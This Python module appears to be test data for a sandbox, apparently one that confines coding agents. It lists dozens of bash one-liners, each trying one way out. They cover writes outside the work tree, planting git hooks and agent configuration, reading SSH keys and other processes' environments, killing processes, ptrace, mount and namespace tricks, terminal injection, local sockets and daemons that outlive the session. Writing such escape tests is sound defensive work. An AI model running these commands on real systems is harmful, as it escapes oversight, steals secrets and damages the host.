"""Ways out of a sandbox, as scripts for bash. Each tries one, and none may succeed.

The variables: OUT a folder outside, HOME the person's home, PY a Python, VICTIM a process outside, PORT a port where
TCP and UDP listen, SOCK and NAME a Unix socket and the name of an abstract one, TTY a terminal, LABEL a unique word.
The working directory is the work tree. A script that prints ESCAPED got out; everything else is seen outside.
"""

from __future__ import annotations

FILES = {
    "write outside": "echo x > $OUT/new",
    "write over a file outside": "echo x > $OUT/kept",
    "dots": "echo x > ../outside/new",
    "symlink to a folder": "ln -s $OUT link; echo x > link/new",
    "symlink to a file": "ln -s $OUT/kept link; echo x >> link",
    "hard link": "ln $OUT/kept link && echo x >> link",
    "move out": "echo x > file; mv file $OUT/new",
    "move in": "mv $OUT/kept stolen",
    "remove outside": "rm -rf $OUT/kept $OUT",
    "mode of a file outside": "chmod 777 $OUT/kept",
    "time of a file outside": "touch -d 2001-01-01 $OUT/kept",
    "attribute of a file outside": '$PY -c \'import os; os.setxattr("\'$OUT\'/kept", "user.x", b"1")\'',
    "owner of a file outside": "chown 1:1 $OUT/kept",
    "fifo outside": "mkfifo $OUT/fifo",
    "socket outside": "$PY -c 'import socket; socket.socket(socket.AF_UNIX).bind(\"'$OUT'/new\")'",
    "a folder's descriptor": '$PY -c \'import os; fd = os.open(".", 0); '
    'os.open("../outside/new", os.O_CREAT | os.O_WRONLY, dir_fd=fd)\'',
    "descriptors left open": "for fd in {3..40}; do { echo x >&$fd; } 2>/dev/null; done",
    "the root of this process": "echo x > /proc/self/root$OUT/new",
    "the root of init": "echo x > /proc/1/root$OUT/new",
    "the folder of this process": "echo x > /proc/self/cwd/../outside/new",
    "the root of a process outside": "echo x > /proc/$VICTIM/root$OUT/new",
    "shell profile": "echo x >> $HOME/.bashrc",
    "programs on PATH": "echo x > $HOME/bin/tool",
    "the interpreter's packages": 'echo x > "$($PY -c "import sys; print(sys.prefix)")/$LABEL" && echo ESCAPED',
    "system configuration": "echo x > /etc/$LABEL && echo ESCAPED; rm -f /etc/$LABEL",
    "crontab": "echo '* * * * * true' | crontab - && echo ESCAPED; "
    "for d in /var/spool/cron /var/spool/cron/crontabs /etc/cron.d; do echo > $d/$LABEL && echo ESCAPED; done",
    "shared memory": "echo x > /dev/shm/$LABEL",
    "shared temporary folder": "echo x > /tmp/$LABEL; echo x > /var/tmp/$LABEL",
    "temporary file of others": "cat /tmp/$LABEL-others | grep S3CRET && echo ESCAPED",
    "private key": "cat $HOME/.ssh/id | grep S3CRET && echo ESCAPED",
}
GIT = {
    "git configuration": "git config core.fsmonitor 'touch x'; echo x >> .git/config",
    "git configuration, replaced": "cp .git/config c; echo x >> c; mv -f c .git/config",
    "git hook": "echo x > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
    "hooks moved": "mv .git/hooks .git/old; mkdir .git/hooks; echo x > .git/hooks/pre-commit",
    "hooks removed": "rm -rf .git/hooks; ln -s $PWD .git/hooks",
    "git folder moved": "mv .git old; mkdir .git; cp -r old/* .git; echo x >> .git/config",
    "git folder removed": "rm -rf .git; git init -q .; echo x >> .git/config",
    "git's common folder": "echo ../other > .git/commondir",
    "configuration of the work tree": "git config extensions.worktreeConfig true; echo x > .git/config.worktree",
    "hooks of a submodule": "mkdir -p .git/modules/a/hooks; echo x > .git/modules/a/hooks/pre-commit",
    "another work tree": "git worktree add -q ../other; mkdir -p .git/worktrees/a",
    "git's global configuration": "git config --global core.hooksPath /tmp; echo x > $HOME/.gitconfig",
    "agent configuration": "mkdir -p .claude .m3 .vscode; echo {} > .claude/settings.json; echo > .m3/config.toml; "
    "echo {} > .vscode/tasks.json; echo {} > .mcp.json",
    "agent configuration, replaced": "rm -rf .claude .mcp.json; ln -s $PWD .claude; ln -s $PWD/a .mcp.json",
}
PROCESSES = {
    "environment": "env | grep S3CRET && echo ESCAPED",
    "environments of others": "cat /proc/*/environ | tr '\\0' '\\n' | grep S3CRET && echo ESCAPED",
    "memory of others": "for p in /proc/[0-9]*; do [ ${p#/proc/} = $VICTIM ] && head -c1 $p/mem && echo ESCAPED; done; "
    "echo x > /proc/$VICTIM/mem && echo ESCAPED",
    "signal": "kill -9 $VICTIM; kill -9 -1",
    "ptrace": "$PY -c 'import ctypes; print(\"ESCAPED\" if ctypes.CDLL(None).ptrace(16, '$VICTIM', 0, 0) == 0 else 1)'",
    "background process": "sleep $SECONDS_APART & disown",
    "daemon": "setsid nohup env -i sleep $SECONDS_APART > /dev/null 2>&1 < /dev/null &",
    "daemon without parents": "( ( env -i setsid sleep $SECONDS_APART & ) & ) & sleep 0.1",
}
PRIVILEGES = {
    "mount over the protected": "mount -t tmpfs none .git/hooks && echo ESCAPED",
    "unmount the protected": "umount -l .git/hooks; umount -l .git/config; echo x > .git/hooks/pre-commit",
    "remount": "mount -o remount,rw,bind $OUT && echo ESCAPED; mount -o remount,rw / && echo ESCAPED",
    "bind": "mount --bind $PWD $OUT && echo ESCAPED",
    "a namespace of its own": "unshare -Urm sh -c 'umount -l .git/hooks; mount -o remount,rw,bind $OUT; echo x > "
    "$OUT/new; echo x > .git/hooks/pre-commit'",
    "namespace of init": "nsenter -t 1 -m -- touch $OUT/new; nsenter -t $VICTIM -m -- touch $OUT/new",
    "chroot": "chroot /proc/1/root touch $OUT/new",
    "setuid program": '[ "$($OUT/suid -u)" != "$(id -u)" ] && $OUT/suid -u && echo ESCAPED',
    "another user": "$PY -c 'import os; os.setgroups([]); os.setuid(12345); print(\"ESCAPED\")'",
    "device node": "mknod disk b 7 0 && echo ESCAPED; mknod memory c 1 1 && echo ESCAPED",
    "devices": "for d in /dev/[svx]d[a-z]* /dev/nvme* /dev/loop* /dev/mem /dev/kmsg /dev/fuse; do "
    "head -c1 $d && echo ESCAPED; done",
    "kernel settings": "f=/proc/sys/kernel/core_pattern; cat $f > $f && echo ESCAPED",
    "control groups": "d=$(find /sys/fs/cgroup -maxdepth 2 -name cgroup.procs | head -1); echo $$ > $d && echo ESCAPED",
    "typing into the terminal": "$PY -c '\nimport fcntl, os, termios\nfor fd in (0, 1, 2):\n"
    ' try: fcntl.ioctl(fd, termios.TIOCSTI, b"x"); print("ESCAPED")\n except OSError: pass\n'
    'fd = os.open("\'$TTY\'", os.O_RDWR); fcntl.ioctl(fd, termios.TIOCSTI, b"x"); print("ESCAPED")\'',
    "writing to the terminal": "echo x > $TTY; echo x > /dev/tty",
}
NETWORK = {
    "TCP": "echo x > /dev/tcp/127.0.0.1/$PORT",
    "TCP to the machine's name": "echo x > /dev/tcp/$(hostname)/$PORT; echo x > /dev/tcp/0.0.0.0/$PORT",
    "UDP": "echo x > /dev/udp/127.0.0.1/$PORT",
    "name server": '$PY -c \'import socket; print(socket.getaddrinfo("example.com", 80), "ESCAPED")\'',
    "route outside": "timeout 3 bash -c 'echo x > /dev/tcp/192.0.2.1/80 && echo ESCAPED'; "
    "grep -v lo: /proc/net/dev | grep -q : && echo ESCAPED",
    "unix socket": "$PY -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"'$SOCK'\"); s.send(b\"x\")'",
    "unix socket in the work tree": "$PY -c 'import socket; s = socket.socket(socket.AF_UNIX); "
    's.connect("socket"); s.send(b"x")\'',
    "abstract unix socket": "$PY -c 'import socket; s = socket.socket(socket.AF_UNIX); "
    's.connect("\\0\'$NAME\'"); s.send(b"x")\'',
    "host of a virtual machine": "$PY -c 'import socket; socket.socket(40, socket.SOCK_STREAM); print(\"ESCAPED\")'",
    "sockets past the filter": "$PY -c 'import ctypes, errno; c = ctypes.CDLL(None, use_errno=True); "
    'c.syscall(425, 1, ctypes.create_string_buffer(120)); print(ctypes.get_errno() == errno.ENOSYS or "ESCAPED")\'',
    "services of the system": "$PY -c '\nimport socket\n"
    'for p in ("/run/dbus/system_bus_socket", "/run/docker.sock", "/run/systemd/private", "/var/run/docker.sock"):\n'
    ' try: socket.socket(socket.AF_UNIX).connect(p); print("ESCAPED")\n except OSError: pass\'',
}
WAYS_OUT = {**FILES, **GIT, **PROCESSES, **PRIVILEGES, **NETWORK}
"""Each way out by its name."""

NOT_TRIED_OUTSIDE = frozenset(
    {
        *("remove outside", "signal", "crontab", "programs on PATH", "another work tree", "setuid program"),
        *("another user", "devices", "device node", "control groups", "typing into the terminal", "name server"),
        *(
            "route outside",
            "services of the system",
            "kernel settings",
            "chroot",
            "namespace of init",
            "bind",
            "remount",
        ),
        *("mount over the protected", "unmount the protected", "a namespace of its own", "ptrace", "memory of others"),
        *("writing to the terminal", "the interpreter's packages", "system configuration", "owner of a file outside"),
        *("host of a virtual machine", "sockets past the filter"),
        *("attribute of a file outside", "TCP to the machine's name", "descriptors left open"),
        *("the root of init", "background process", "daemon", "daemon without parents", "git's global configuration"),
    }
)
"""What is not run without a sandbox: it depends on the machine or its user, leaves something behind, or harms it."""
